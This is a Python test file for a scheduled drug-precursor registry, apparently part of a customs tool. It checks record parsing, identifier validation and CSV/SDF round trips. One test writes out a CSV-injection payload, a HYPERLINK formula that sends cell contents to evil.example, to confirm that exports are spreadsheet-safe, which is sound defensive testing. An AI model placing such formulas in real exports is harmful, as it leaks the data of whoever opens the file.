"""The registry's files: the shared list read into typed records, file values checked, CSV and SDF round trips."""

from __future__ import annotations

import io
from collections import Counter
from pathlib import Path

import pytest

from portguard.core.errors import InvalidInput
from portguard.substances import registry
from portguard.substances.chemistry import Structure
from portguard.substances.registry import CnCode, RegistryFile, SubstanceRecord

HEADER = ",".join(registry.FILE_COLUMNS)


def _csv(*rows: str) -> io.StringIO:
    return io.StringIO("\n".join([HEADER, *rows]) + "\n")


def test_the_shared_list_reads_into_typed_records(precursors: RegistryFile) -> None:
    records = precursors.records
    assert len(records) == 48
    assert Counter(record.eu_category for record in records) == {"1": 34, "2A": 2, "2B": 4, "3": 6, "4": 2}
    assert {record.un_1988_table for record in records} == {"I", "II", None}
    assert sum(record.structure is not None for record in records) == 46  # the two medicinal products have none
    assert all(record.cas_valid for record in records if record.cas)
    assert all(record.sources for record in records)


def test_rdkit_agrees_with_the_identifiers_of_the_shared_list(precursors: RegistryFile) -> None:
    """Every InChIKey, formula and CAS check digit of the file is what RDKit and the CAS rule compute."""
    disagreements = [problem for problem in precursors.problems if problem.field != "structure"]
    assert disagreements == []
    duplicates = [problem for problem in precursors.problems if problem.field == "structure"]
    assert [(p.row, p.name) for p in duplicates] == [(27, "(1S,2S)-(+)-Chloropseudoephedrine")]
    assert "(1R,2S)-(-)-Chloroephedrine" in duplicates[0].computed  # the file says: stereo not encoded


def test_record_fields(by_name: dict[str, SubstanceRecord]) -> None:
    bmk = by_name["1-Phenyl-2-propanone"]
    assert bmk.abbrev == "BMK/P-2-P" and bmk.synonyms == ("BMK", "P-2-P")
    assert bmk.names == ("1-Phenyl-2-propanone", "BMK", "P-2-P")
    assert bmk.cas == "103-79-7" and bmk.cn_codes == (CnCode("29143100"),)
    assert bmk.smiles == "CC(=O)Cc1ccccc1" and bmk.inchikey == "QCCDLTOVEPVEJK-UHFFFAOYSA-N"
    assert bmk.label == "EU cat. 1, UN Table I" and bmk.sources == ("EE", "EUR-Lex")
    eapa = by_name["Ethyl alpha-phenylacetoacetate"]
    assert eapa.cn_codes == (CnCode("29183000", ex=True),) and eapa.un_1988_table is None
    products = by_name["Medicinal/veterinary products containing ephedrine or its salts"]
    assert products.eu_category == "4" and products.eu_category_note == "111/2005 only"
    assert products.cn_codes == (CnCode("30034100"), CnCode("30044100")) and products.structure is None
    phosphorus = by_name["Red phosphorus"]
    assert phosphorus.cn_codes == (CnCode("280470"),)  # the file gives 6 digits and a remark
    imdpam = by_name["Isopropylidene (2-(3,4-methylenedioxyphenyl)acetyl)malonate"]
    assert imdpam.cas is None and not imdpam.cas_valid and imdpam.cn_code == ""
    assert by_name["Ephedrine"].smiles == "CN[C@@H](C)[C@H](O)c1ccccc1"
    assert by_name["Lysergic acid"].inchikey == "ZAGRKAFMISFKIO-QMTHXVAHSA-N"


def test_file_values_that_disagree_are_reported_and_the_computed_ones_kept() -> None:
    text = _csv(
        "Benzyl methyl ketone,BMK,103-79-8,ok,2914 31 00,1,I,CC(=O)Cc1ccccc1,QCCDLTOVEPVEJK-UHFFFAOYSA-X,C9H11O,x,K",
        "Acetone,,67-64-1,fails,2914 11 00,3,II,CC(C)=O,,,x,K",
    )
    got = registry.read_csv(text, name="partner.csv")
    fields = [(p.row, p.field) for p in got.problems]
    assert fields == [(1, "cas"), (1, "cas_checkdigit"), (1, "inchikey"), (1, "formula"), (2, "cas_checkdigit")]
    assert "partner.csv, record 1 (Benzyl methyl ketone), inchikey" in str(got.problems[2])
    first = got.records[0]
    assert first.inchikey == "QCCDLTOVEPVEJK-UHFFFAOYSA-N" and first.formula == "C9H10O"
    assert first.cas == "103-79-8" and not first.cas_valid


@pytest.mark.parametrize(
    ("row", "field"),
    [
        ("Bad,,,,,1,I,C1CC,,,x,K", "smiles"),
        ("Bad,,,,,5,I,CC,,,x,K", "eu_category"),
        ("Bad,,,,,1,III,CC,,,x,K", "un_1988_table"),
        (",,,,,1,I,CC,,,x,K", "name"),
    ],
)
def test_a_row_that_cannot_be_read_names_file_record_and_field(row: str, field: str) -> None:
    with pytest.raises(InvalidInput) as caught:
        registry.read_csv(_csv("Fine,,,,,3,II,CCO,,,x,K", row), name="partner.csv")
    assert caught.value.detail.startswith(f"partner.csv, record 2, {field}")
    assert caught.value.extra["field"] == field


def test_a_file_without_the_columns_is_refused() -> None:
    with pytest.raises(InvalidInput, match="missing columns"):
        registry.read_csv(io.StringIO("name,smiles\nx,C\n"), name="short.csv")


@pytest.mark.parametrize("text", ['name,cas\n"x\x00', "\x00,\x00\n"])
def test_bytes_that_are_not_csv_are_an_invalid_input(text: str) -> None:
    with pytest.raises(InvalidInput, match=r"odd\.csv"):
        registry.read_csv(io.StringIO(text, newline=""), name="odd.csv")


def test_csv_round_trip_of_the_shared_list(precursors: RegistryFile, tmp_path: Path) -> None:
    target = tmp_path / "registry.csv"
    registry.write_csv(precursors.records, target=target)
    again = registry.read_csv(target)
    assert again.records == precursors.records
    assert [p.field for p in again.problems] == ["structure"]  # the chloroephedrines, as in the original
    assert target.read_text(encoding="utf-8").splitlines()[0] == ",".join(registry.EXPORT_COLUMNS)


def test_csv_export_is_spreadsheet_safe_and_still_reads_back() -> None:
    hostile = SubstanceRecord(
        name='=HYPERLINK("http://evil.example/?"&A1,"click")',
        synonyms=("-ethanol", "+x"),
        eu_category="3",
        structure=Structure.from_smiles("CCO"),
        sources=("@me",),
    )
    text = registry.csv_text([hostile])
    assert "'=HYPERLINK" in text and "'-ethanol;'+x" in text and "'@me" in text
    assert registry.read_csv(io.StringIO(text)).records == (hostile,)


def test_sdf_round_trip_of_the_shared_list(precursors: RegistryFile, tmp_path: Path) -> None:
    target = tmp_path / "registry.sdf"
    registry.write_sdf(precursors.records, target=target)
    again = registry.read_sdf(target)
    assert again.records == precursors.records  # stereo survives the mol blocks: InChIKeys are equal
    assert [p.field for p in again.problems] == ["structure"]
    text = target.read_text(encoding="utf-8")
    assert text.count("$$$$") == 48
    assert "<cas>" in text and "<eu_category>" in text and "<smiles>" in text


def test_sdf_reports_a_smiles_tag_that_disagrees_with_the_mol_block(tmp_path: Path) -> None:
    target = tmp_path / "one.sdf"
    toluene = SubstanceRecord(name="Toluene", eu_category="3", structure=Structure.from_smiles("Cc1ccccc1"))
    registry.write_sdf([toluene], target=target)
    text = target.read_text(encoding="utf-8").replace("Cc1ccccc1", "CCO")
    target.write_text(text, encoding="utf-8")
    got = registry.read_sdf(target)
    assert got.records[0].smiles == "Cc1ccccc1"
    assert [(p.field, p.file_value) for p in got.problems] == [("smiles", "CCO")]


def test_unmasking_targets_and_similarity_index(precursors: RegistryFile) -> None:
    targets = registry.unmasking_targets(precursors.records)
    keys = {target.key for target in targets}
    assert {"Phenylacetic acid", "Acetic anhydride", "1-Phenyl-2-propanone"} <= keys
    assert not keys & {"Acetone", "Toluene", "Red phosphorus", "Potassium permanganate", "Hydrochloric acid"}
    assert len(targets) == 38
    assert len(registry.similarity_index(precursors.records)) == 46


def test_precursor_file_is_inside_the_shared_data_folder() -> None:
    assert registry.precursor_file(Path("data")) == Path("data") / "precursors" / "scheduled_precursors.csv"
